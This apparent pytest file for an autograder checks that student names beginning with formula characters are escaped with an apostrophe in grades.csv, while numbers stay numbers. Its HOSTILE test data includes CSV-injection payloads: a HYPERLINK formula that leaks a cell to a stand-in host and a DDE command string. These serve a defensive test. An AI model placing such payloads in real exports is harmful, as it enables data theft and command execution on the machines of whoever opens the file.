"""grades.csv cannot carry a formula: names from Gradescope metadata that start with `=`, `+`,
`-`, `@`, tab or CR are written with a leading apostrophe; the grader's numbers stay numbers;
honest students in the same batch keep full marks."""
import csv
import io
import json
import shutil

import yaml

from helpers import QUESTIONS, SUBMISSIONS, run_cli

from autograder.safetext import csv_cell

HOSTILE = {
    "submission_1": '=HYPERLINK("http://x.example/?leak="&A1, "click")',
    "submission_2": "+cmd|' /C calc'!A0",
    "submission_3": "-2+3",
    "submission_4": "@SUM(A1:A9)",
    "submission_5": "\t=1+1",
    "submission_6": "\r=1+1",
}
HONEST = "Ada Lovelace"
FULL = {"softmax": "6", "attention": "6", "mask": "6", "split_heads": "5", "multi_head": "6",
        "block": "6"}


def test_formula_names_are_neutralised_in_grades_csv(tmp_path):
    export = tmp_path / "export"
    names = {**HOSTILE, "submission_7": HONEST}
    for sub in names:
        (export / sub).mkdir(parents=True)
        shutil.copy(SUBMISSIONS / "correct" / "reference_style.py", export / sub / "attention.py")
    (export / "submission_metadata.yml").write_text(yaml.safe_dump(
        {sub: {":submitters": [{":name": name}]} for sub, name in names.items()}))
    out = tmp_path / "out"
    r = run_cli("grade", "-a", "attention", str(export), "--out", str(out), "--jobs", "2",
                timeout=900)
    assert r.returncode == 0, r.stderr[-3000:]

    # Read as bytes: universal newlines would turn a CR inside a cell into LF.
    rows = list(csv.reader(io.StringIO((out / "grades.csv").read_bytes().decode("utf-8"),
                                       newline="")))
    assert rows[0] == ["student", "file", *QUESTIONS, "total", "max_score", "status", "error"]
    by_file = {row[1]: row for row in rows[1:]}
    assert len(by_file) == len(names)
    for sub, name in names.items():
        path = str(export / sub / "attention.py")
        shown = name if sub == "submission_7" else "'" + name
        assert by_file[path] == [shown, path, *[FULL[q] for q in QUESTIONS], "35", "35",
                                 "graded", ""]
    # The JSON keeps the names as they are: only the spreadsheet needs the apostrophe.
    data = json.loads((out / "grades.json").read_text())
    assert sorted(s["student"] for s in data["submissions"]) == sorted(names.values())
    assert all(s["score"] == 35 for s in data["submissions"])


def test_numbers_stay_numbers_and_text_is_neutralised():
    assert [csv_cell(v) for v in (-1.5, 0.0, 35.0, 2)] == ["-1.5", "0", "35", "2"]
    assert [csv_cell(v) for v in ("-1.5", "=1", "+1", "@a", "\tx", "\rx", "a=1", "")] == \
        ["'-1.5", "'=1", "'+1", "'@a", "'\tx", "'\rx", "a=1", ""]
    assert csv_cell(None) == ""
